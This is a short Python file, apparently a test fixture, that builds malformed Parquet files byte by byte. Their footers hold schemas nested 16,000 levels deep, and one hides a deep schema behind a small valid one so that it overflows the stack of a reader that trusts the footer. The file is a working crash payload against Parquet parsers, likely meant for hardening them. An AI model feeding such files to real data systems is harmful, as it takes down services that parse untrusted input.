"""A Parquet footer that overflows the stack of a reader that trusts it."""

import struct


def nested_table(depth: int) -> bytes:
    """A Parquet file without rows, whose one column lies in `depth` structs: only its footer."""

    def element(fields: bytes) -> bytes:
        return fields + b"\0"

    count = depth + 2
    group = element(b"\x35\x02" + b"\x18\x01a" + b"\x15\x02")  # Optional, named a, of one child
    leaf = element(b"\x15\x0c" + b"\x25\x02" + b"\x18\x01a")  # Bytes
    varint = bytes([count & 127 | 128, count >> 7 & 127 | 128, count >> 14])
    schema = b"\x19\xfc" + varint + element(b"\x48\x01s\x15\x02") + group * depth + leaf
    footer = b"\x15\x02" + schema + b"\x16\x00\x19\x0c\0"
    return b"PAR1" + footer + struct.pack("<I", len(footer)) + b"PAR1"


def deadly_table() -> bytes:
    """A Parquet file whose footer has a second schema, of 16,000 levels, behind a small one: it ends its reader."""
    footer = nested_table(16_000)[4:-8].removeprefix(b"\x15\x02\x19")
    small = b"\x15\x02\x19\x1c" + b"\x48\x01s\x15\x00\x00"
    footer = small + b"\x09\x04" + footer
    return b"PAR1" + footer + struct.pack("<I", len(footer)) + b"PAR1"
